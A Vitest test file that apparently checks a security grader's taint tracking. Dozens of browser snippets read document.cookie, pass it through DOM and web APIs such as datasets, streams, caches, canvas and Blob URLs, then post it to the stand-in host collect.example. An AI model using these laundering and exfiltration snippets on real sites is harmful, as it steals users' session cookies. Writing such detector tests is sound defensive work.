import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* What is put into an object of the platform comes out of it in another form: `K` is a secret, and in the twin it is not. */

const SEND = "const send = (body) => fetch('https://collect.example/', { method: 'POST', body });";

it.each([
  [
    'a text as markup',
    "const esc = (s) => { const d = document.createElement('div'); d.textContent = s; return d.innerHTML; }; send(esc(K));",
  ],
  [
    'a text of a node as markup',
    "function esc(s) { var d = document.createElement('div'); d.appendChild(document.createTextNode(s)); return d.innerHTML; } send(esc(K));",
  ],
  ['a text that is appended', "const p = document.createElement('p'); p.append(K); send(p.textContent);"],
  [
    'markup as a text',
    "const dec = (s) => { const t = document.createElement('textarea'); t.innerHTML = s; return t.value; }; send(dec(K));",
  ],
  ['an attribute', "const p = document.createElement('p'); p.setAttribute('data-a-b', K); send(p.dataset.aB);"],
  [
    'a file’s reader that is `this`',
    'const r = new FileReader(); r.onload = function () { send(this.result); }; r.readAsText(new Blob([K]));',
  ],
  ['the window’s name', 'window.name = K; onload = () => send(self.name);'],
  [
    'a variable of a style',
    "document.body.style.setProperty('--a', K); send(getComputedStyle(document.body).getPropertyValue('--a'));",
  ],
  [
    'an attribute of an element that is looked for again',
    "document.querySelector('#a').setAttribute('state', K); send(document.querySelector('#a').getAttribute('state'));",
  ],
  [
    'a stream that a function hears',
    'const w = new WritableStream({ write(x) { send(x); } }).getWriter(); w.write(K);',
  ],
  [
    'a store that comes later',
    "caches.open('a').then((c) => c.put('/k', new Response(K))); caches.match('/k').then((r) => r.text()).then(send);",
  ],
  ['bytes', 'const b = new Uint8Array(99); new TextEncoder().encodeInto(K, b); send(b);'],
  ['the address of a file', 'fetch(URL.createObjectURL(new Blob([K]))).then((r) => r.text()).then(send);'],
  [
    'the address of a picture',
    "const c = document.createElement('canvas'); c.getContext('2d').fillText(K, 0, 0); fetch(c.toDataURL()).then((r) => r.blob()).then(send);",
  ],
  ['an answer', 'Response.json({ K }).text().then(send);'],
  ['a mark', "send(performance.mark('a', { detail: K }).detail);"],
  ['the name of a symbol', 'send(Symbol(K).description);'],
  [
    'a stream',
    'const s = new ReadableStream({ start(c) { c.enqueue(K); c.close(); } }); s.getReader().read().then(({ value }) => send(value));',
  ],
  ['a stream that is sent', 'send(new ReadableStream({ pull: (c) => c.enqueue(K) }));'],
  [
    'a stream behind another',
    'const t = new TransformStream({ transform(x, c) { c.enqueue(K); } }); new Blob(["a"]).stream().pipeThrough(t); send(t.readable);',
  ],
  ['a text that is no address, as a path', "fetch(new URL(K, 'https://collect.example/'));"],
  [
    'a text that is no address, as what a client asks for',
    "const api = axios.create({ baseURL: 'https://collect.example/' }); api.get(K);",
  ],
  ['an encoded text, as a path', "fetch(new URL(btoa(K), 'https://collect.example/'));"],
  [
    'an encoded text, as what a client asks for',
    "const api = axios.create({ baseURL: 'https://collect.example/' }); api.get(encodeURIComponent(K));",
  ],
  ['a choice', 'send(new Option(K).text);'],
])('%s', async (_, program) => {
  expect(await graded({ content: `${SEND} const K = document.cookie; ${program}` })).toBe('F');
});

it.each([
  [
    'another attribute',
    "const p = document.createElement('p'); p.dataset.a = K; p.setAttribute('data-b', '1'); send(p.dataset.b);",
  ],
  [
    'the same attribute of another element',
    "const p = document.createElement('p'); p.setAttribute('data-a', K); const q = document.createElement('p'); send(q.getAttribute('data-a'));",
  ],
  ['a variable that is called alike', 'name = K; send(window.name);'],
  [
    'an attribute of an element that is looked for otherwise',
    "document.querySelector('#a').setAttribute('state', K); send(document.querySelector('#b').getAttribute('state'));",
  ],
  [
    'another variable of a style',
    "document.body.style.setProperty('--a', K); send(getComputedStyle(document.body).getPropertyValue('--b'));",
  ],
  [
    'a stream that another function hears',
    'new WritableStream({ write(x) { send(x); } }); const w = new WritableStream({ write() {} }).getWriter(); w.write(K);',
  ],
  [
    'the text of another element',
    "const p = document.createElement('p'); p.textContent = K; const q = document.createElement('p'); q.textContent = '1'; send(q.innerHTML);",
  ],
  [
    'another stream',
    "new ReadableStream({ start(c) { c.enqueue(K); } }); const s = new ReadableStream({ start(d) { d.enqueue('1'); } }); send(s);",
  ],
  [
    'a link that is resolved',
    "const a = document.querySelector('a').getAttribute('href'); fetch(new URL(a, 'https://collect.example/'));",
  ],
  ['what is asked for by an address', 'fetch(K).then((r) => r.text());'],
])('not %s', async (_, program) => {
  expect(await graded({ content: `${SEND} const K = document.cookie; ${program}` })).toMatch(/^A/);
});

it('a text that was made markup puts none into the page', async () => {
  const shown = (form: string): string =>
    `window.addEventListener('message', ({ data }) => { const d = document.createElement('div'); ${form} document.body.innerHTML = d.OUT; });`;
  const grade = (form: string, out: string): Promise<string> => graded({ content: shown(form).replace('OUT', out) });
  expect(await grade('d.textContent = data;', 'innerHTML')).toBe(await grade('', 'title'));
});
